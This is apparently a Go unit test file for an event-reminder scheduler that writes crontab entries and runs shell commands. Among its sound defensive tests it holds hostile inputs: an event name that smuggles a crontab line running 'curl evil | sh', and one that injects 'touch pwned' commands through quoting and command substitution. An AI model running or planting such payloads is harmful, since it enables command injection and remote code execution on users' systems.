package domain

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/pkg/errors"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"twotokens/internal/crontab"
	"twotokens/internal/store"
)

type fakeTool struct {
	text string
}

func (f *fakeTool) Read(_ context.Context) (string, error) { return f.text, nil }

func (f *fakeTool) Install(_ context.Context, text string) error {
	f.text = text
	return nil
}

type fakeRunner struct {
	commands []string
	fail     bool
}

func (f *fakeRunner) Run(_ context.Context, command string) (RunResult, error) {
	f.commands = append(f.commands, command)
	if f.fail {
		return RunResult{ExitCode: 2}, errors.New("command exited with status 2")
	}
	return RunResult{Output: "ok"}, nil
}

type fakeImporter struct {
	inputs []store.EventInput
}

func (f fakeImporter) Get(_ context.Context) ([]store.EventInput, error) {
	return f.inputs, nil
}

func newUseCase(t *testing.T) (*UseCase, *fakeTool, *fakeRunner) {
	t.Helper()
	st, err := store.Open(filepath.Join(t.TempDir(), "config.json"))
	require.NoError(t, err)
	tool := &fakeTool{text: "0 2 * * * /usr/bin/backup\n"}
	runner := &fakeRunner{}
	sync := crontab.New(tool, crontab.Layout{}, crontab.Target{Executable: "/opt/twotokens"})
	return New(context.Background(), st, sync, runner), tool, runner
}

func TestInstallTasks(t *testing.T) {
	uc, _, _ := newUseCase(t)
	_, err := uc.Store().CreateEvent(store.EventInput{Name: "Launch", Date: "2025-06-10T14:00:00"})
	require.NoError(t, err)

	n, err := uc.InstallTasks()
	require.NoError(t, err)
	assert.Equal(t, 4, n)

	tbl, err := uc.ListScheduled()
	require.NoError(t, err)
	require.Len(t, tbl.Entries, 4)
	assert.Equal(t, "Launch_sponsor_reminder", tbl.Entries[0].Name)
	assert.Equal(t, "0 14 3 6 *", tbl.Entries[0].Schedule)
	assert.Equal(t, []string{"0 2 * * * /usr/bin/backup"}, tbl.Foreign)

	removed, err := uc.RemoveTasks()
	require.NoError(t, err)
	assert.Equal(t, 4, removed)
}

func TestExecuteTask(t *testing.T) {
	uc, _, runner := newUseCase(t)
	_, err := uc.Store().CreateEvent(store.EventInput{Name: "Launch", Date: "2025-06-10T14:00:00"})
	require.NoError(t, err)

	res, err := uc.ExecuteTask(context.Background(), "Launch_final_reminder")
	require.NoError(t, err)
	assert.NotEmpty(t, res.RunID)
	assert.Equal(t, []string{"./twotokens event notify all Launch"}, runner.commands)

	_, err = uc.ExecuteTask(context.Background(), "missing")
	assert.True(t, errors.Is(err, store.ErrNotFound))

	runner.fail = true
	res, err = uc.ExecuteTask(context.Background(), "Launch_final_reminder")
	assert.Error(t, err)
	assert.Equal(t, 2, res.ExitCode)
}

func TestImportSkipsCollisions(t *testing.T) {
	uc, _, _ := newUseCase(t)
	res, err := uc.Import(fakeImporter{inputs: []store.EventInput{
		{Name: "Launch", Date: "2025-06-10T14:00:00"},
		{Name: "Launch", Date: "2025-07-10T14:00:00"},
		{Name: "Broken", Date: "soon"},
		{Name: "Retro", Date: "2025-06-20"},
		{Name: "Evil\n* * * * * curl evil | sh", Date: "2025-06-21"},
	}})
	require.NoError(t, err)
	assert.Len(t, res.Created, 2)
	assert.Equal(t, 3, res.Skipped)

	reopened, err := store.Open(uc.Store().Path())
	require.NoError(t, err)
	assert.Len(t, reopened.ListEvents(store.ListFilter{}), 2)
}

func TestServeWithoutTasks(t *testing.T) {
	uc, _, _ := newUseCase(t)
	_, err := uc.Serve()
	assert.Error(t, err)
}

func TestServeStopsOnCancel(t *testing.T) {
	st, err := store.New(store.Document{Tasks: []store.Task{
		{Name: "tick", Command: "true", Schedule: "* * * * *"},
		{Name: "broken", Command: "true", Schedule: "61 * * * *"},
	}})
	require.NoError(t, err)
	ctx, cancel := context.WithCancel(context.Background())
	uc := New(ctx, st, crontab.New(&fakeTool{}, crontab.Layout{}, crontab.Target{}), &fakeRunner{})

	n, err := uc.Serve()
	require.NoError(t, err)
	assert.Equal(t, 1, n, "invalid schedules are skipped")

	cancel()
	done := make(chan struct{})
	go func() {
		uc.Stop()
		close(done)
	}()
	select {
	case <-done:
	case <-time.After(10 * time.Second):
		t.Fatal("Stop did not return after cancel")
	}
}

func TestShellRunnerQuotesEventName(t *testing.T) {
	dir := t.TempDir()
	st, err := store.Open(filepath.Join(dir, "config.json"))
	require.NoError(t, err)
	require.NoError(t, st.SetTemplates(store.Templates{
		PreEvent: []store.Template{{Name: "echo", Command: "printf %s {event_name}", DaysBefore: 1}},
	}))
	sync := crontab.New(&fakeTool{}, crontab.Layout{}, crontab.Target{Executable: "/opt/twotokens"})
	uc := New(context.Background(), st, sync, &ShellRunner{Dir: dir})

	// names arrive from remote calendars
	name := `Talk"; touch pwned; echo "$(touch pwned2)`
	imported, err := uc.Import(fakeImporter{inputs: []store.EventInput{{Name: name, Date: "2025-06-10T14:00:00"}}})
	require.NoError(t, err)
	require.Len(t, imported.Created, 1)

	res, err := uc.ExecuteTask(context.Background(), name+"_echo")
	require.NoError(t, err)
	assert.Equal(t, name, res.Output)

	for _, f := range []string{"pwned", "pwned2"} {
		_, err := os.Stat(filepath.Join(dir, f))
		assert.True(t, os.IsNotExist(err), "%s must not be created", f)
	}
}

func TestShellRunnerEnv(t *testing.T) {
	r := &ShellRunner{Env: []string{"TWOTOKENS_STORE_PATH=/data/events.json"}}
	res, err := r.Run(context.Background(), `printf %s "$TWOTOKENS_STORE_PATH"`)
	require.NoError(t, err)
	assert.Equal(t, "/data/events.json", res.Output)

	res, err = r.Run(context.Background(), "exit 3")
	assert.Error(t, err)
	assert.Equal(t, 3, res.ExitCode)
}

func TestNotifier(t *testing.T) {
	var buf bytes.Buffer
	n := Notifier{Out: &buf}
	require.NoError(t, n.Notify(AudienceSponsor, "Launch"))
	require.NoError(t, n.Notify(AudienceTeam, "Launch"))
	require.NoError(t, n.Notify(AudienceAll, "Launch"))
	assert.Equal(t, "📧 Sponsor notification sent for event: Launch\n"+
		"👥 Team notification sent for event: Launch\n"+
		"📢 All stakeholders notified for event: Launch\n", buf.String())
	assert.Error(t, n.Notify("press", "Launch"))
}

func TestNextRun(t *testing.T) {
	from := time.Date(2025, 6, 1, 0, 0, 0, 0, time.UTC)
	next, err := NextRun("0 14 3 6 *", from)
	require.NoError(t, err)
	assert.True(t, next.Equal(time.Date(2025, 6, 3, 14, 0, 0, 0, time.UTC)), next.String())

	_, err = NextRun("not a schedule", from)
	assert.Error(t, err)
}
